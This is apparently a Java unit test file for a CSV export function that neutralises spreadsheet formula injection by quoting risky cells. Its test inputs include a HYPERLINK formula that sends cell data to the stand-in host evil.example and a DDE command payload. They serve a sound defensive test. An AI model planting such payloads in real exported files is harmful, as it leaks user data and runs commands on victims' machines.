package io.plumbline.shared.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class CsvExportTest {

    static final String HOSTILE = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Soylent\")";

    @ParameterizedTest
    @ValueSource(strings = { HOSTILE, "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-",
            "+", "=", "@", "-1e", "-.", "-Infinity", "-NaN", "-0x10", "-1,5", "-1 000", "+35 (n = 9)" })
    void a_cell_a_spreadsheet_could_run_as_a_formula_gets_a_leading_quote(String text) {
        assertThat(CsvExport.cell(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = { "-100.000", "-75", "+35", "-0.5", "-.5", "-3.", "-1e-3", "+2E+10", "12", "Soylent", "a=b",
            "Acme -1", "", "'=already quoted", " =1+1" })
    void plain_numbers_and_cells_not_starting_with_a_formula_character_stay_as_they_are(String text) {
        assertThat(CsvExport.cell(text)).isEqualTo(text);
    }

    @Test
    void numbers_are_written_with_their_text_and_null_is_an_empty_cell() {
        assertThat(CsvExport.cell(-12.5)).isEqualTo("-12.5");
        assertThat(CsvExport.cell(Double.NEGATIVE_INFINITY)).isEqualTo("'-Infinity");
        assertThat(CsvExport.cell(null)).isEmpty();
    }

    @Test
    void the_file_is_rfc_4180_and_reads_back_as_the_neutralised_cells() throws Exception {
        String csv = CsvExport.write(List.of("client", "nps"),
                List.of(List.of(HOSTILE, -40), Arrays.asList("Quote \"and\", comma\r\nnew line", null)));

        assertThat(csv).startsWith("client,nps\r\n").endsWith("\r\n");
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
        assertThat(records).hasSize(3);
        assertThat(records.get(1).toList()).containsExactly("'" + HOSTILE, "-40");
        assertThat(records.get(2).toList()).containsExactly("Quote \"and\", comma\r\nnew line", "");
    }

}
